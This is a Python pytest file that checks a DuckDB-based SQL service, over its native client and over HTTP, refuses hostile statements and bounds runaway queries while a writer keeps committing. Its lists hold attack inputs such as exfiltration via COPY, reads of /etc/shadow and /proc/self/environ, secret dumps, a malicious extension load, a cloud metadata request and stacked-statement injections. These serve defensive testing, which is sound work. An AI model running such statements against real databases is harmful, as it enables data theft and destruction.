"""Hostile statements over Quack and over HTTP while the writer commits: refused or bounded, all."""

import threading
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest

from streams.sql.client import SqlError, ask, load_extensions
from streams.sql.http import serving
from tests.streams.sql.test_http import Http
from tests.streams.sql.test_server import Served, wait_until_served

pytestmark = pytest.mark.slow

WRITES = [
    "INSERT INTO samples VALUES (1)",
    "UPDATE samples SET gap = 1",
    "DELETE FROM samples",
    "TRUNCATE samples",
    "MERGE INTO samples USING pool USING (listing_id) WHEN MATCHED THEN DELETE",
    "DROP VIEW samples",
    "CREATE OR REPLACE VIEW samples AS SELECT 1",
    "ALTER VIEW samples RENAME TO other",
    "CREATE TEMP TABLE t AS FROM samples",
    "CREATE MACRO f(x) AS x",
    "WITH gone AS (DELETE FROM samples RETURNING *) FROM gone",
    "INSERT INTO writer.store.used VALUES ('l0', 1, 'train')",
    "BEGIN; DELETE FROM samples; COMMIT",
    "VACUUM",
    "CHECKPOINT",
]
FILES = [
    "COPY samples TO '/tmp/stolen.csv'",
    "COPY (FROM samples) TO 's3://bucket/stolen.parquet'",
    "EXPORT DATABASE '/tmp/stolen'",
    "IMPORT DATABASE '/tmp/stolen'",
    "ATTACH '/tmp/other.duckdb'",
    "FROM read_csv('/etc/passwd')",
    "FROM read_text('/proc/self/environ')",
    "FROM read_json_auto('/etc/os-release')",
    "FROM parquet_metadata('x.parquet')",
    "FROM '/etc/passwd'",
    "FROM glob('/**')",
    "SELECT (FROM read_blob('/etc/shadow'))",
]
SETTINGS = [
    "SET memory_limit = '1TB'",
    "SET GLOBAL quack_authorization_function = 'true'",
    "RESET lock_configuration",
    "SET lock_configuration = false",
    "PRAGMA enable_external_access = true",
    "PRAGMA database_list",
    "SET VARIABLE x = 1",
    "SELECT current_setting('quack_authorization_function')",
    "FROM duckdb_settings()",
    "FROM duckdb_secrets()",
    "CREATE SECRET s (TYPE s3)",
    "SELECT getenv('HOME')",
    "PREPARE p AS FROM samples",
    "EXECUTE p",
    "USE writer",
]
EXTENSIONS = [
    "INSTALL httpfs",
    "LOAD '/tmp/evil.duckdb_extension'",
    "FORCE INSTALL spatial FROM 'http://127.0.0.1:1'",
    "UPDATE EXTENSIONS",
    "FROM duckdb_extensions()",
]
OTHER_HOSTS = [
    "ATTACH 'quack:127.0.0.1:1' AS other (TYPE quack)",
    "FROM quack_query('quack:127.0.0.1:1', 'SELECT 1', token := 'x')",
    "FROM 'http://169.254.169.254/latest/meta-data'",
    "FROM read_csv('https://example.org/x.csv')",
    "FROM writer.main.samples",
    "FROM writer.store.requests",
]
STOPS = [
    "CALL quack_stop('quack:127.0.0.1')",
    "FROM quack_stop('quack:127.0.0.1')",
    "SELECT quack_stop('quack:127.0.0.1')",
    "CALL quack_serve('quack:0.0.0.0:9999', token := 'mine')",
    "FROM query('CALL quack_stop(''quack:127.0.0.1'')')",
    "FROM json_execute_serialized_sql('{}')",
    "DETACH writer",
    "CALL force_checkpoint()",
]
SHAPES = [
    "",
    ";",
    "\x00",
    "FROM status; DROP VIEW samples",
    "FROM status\x00; DROP VIEW samples",
    "FROM (" * 400 + "FROM status" + ")" * 400,
    "SELECT " + "[" * 500 + "getenv('HOME')" + "]" * 500,
    "SELECT 1" + " + 1" * 10_000 + " + getenv('HOME')",
    "SELECT $1",
    "EXPLAIN ANALYZE FROM samples",
]
REFUSED = [*WRITES, *FILES, *SETTINGS, *EXTENSIONS, *OTHER_HOSTS, *STOPS, *SHAPES]

# Too long or too large: a million rows squared, text and lists without measure.
GREEDY = [
    "SELECT sum(hash(a.range + b.range)) FROM range(1000000) a, range(1000000) b",
    "SELECT list(lpad('x', 1000000, 'y') || range) FROM range(100000)",
]


class Writing:
    """Commits listings to the pool, one after the other, as the curate worker does."""

    def __init__(self, served: Served) -> None:
        self.commits = 0
        self._served = served
        self._ended = threading.Event()
        self._thread = threading.Thread(target=self._write)
        self._thread.start()

    def _write(self) -> None:
        while not self._ended.wait(0.02):
            self._served.world.sell(f"written{self.commits}")
            self.commits += 1

    def end(self) -> None:
        self._ended.set()
        self._thread.join()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    made = Served(tmp_path_factory.mktemp("pool"))
    yield made
    made.close()


@pytest.fixture(scope="module")
def http(served: Served) -> Iterator[Http]:
    settings = served.settings.model_copy(update={"sql_http_port": 0})
    with serving(settings) as port:
        yield Http(served, port)


@pytest.fixture
def writing(served: Served) -> Iterator[Writing]:
    made = Writing(served)
    yield made
    made.end()


@pytest.fixture(scope="module")
def quack() -> Iterator[duckdb.DuckDBPyConnection]:
    """A client without our guard before it."""
    with duckdb.connect() as con:
        load_extensions(con)
        yield con


def test_all_are_refused_both_ways_while_the_writer_goes_on(
    served: Served, http: Http, quack: duckdb.DuckDBPyConnection, writing: Writing
) -> None:
    for sql in REFUSED:
        with pytest.raises(SqlError):
            ask(quack, served.settings, sql)
        assert http.post(sql)[0] == 400, sql[:60]
    # None of them brought the server down, or left a trace in what it serves.
    status, body = http.post("SELECT count(*) >= 3, min(gap) FROM samples")
    assert (status, '"rows": [[true, ' in body) == (200, True)
    assert not Path("/tmp/stolen.csv").exists()
    assert writing.commits > 3


@pytest.mark.parametrize("sql", GREEDY, ids=["cross join", "memory"])
def test_what_takes_too_much_is_stopped_while_the_writer_goes_on(
    served: Served,
    http: Http,
    quack: duckdb.DuckDBPyConnection,
    writing: Writing,
    sql: str,
) -> None:
    with pytest.raises(SqlError):
        ask(quack, served.settings, sql)
    wait_until_served(served.settings)
    assert http.post(sql)[0] in (400, 408, 503)
    wait_until_served(served.settings)
    assert writing.commits > 3
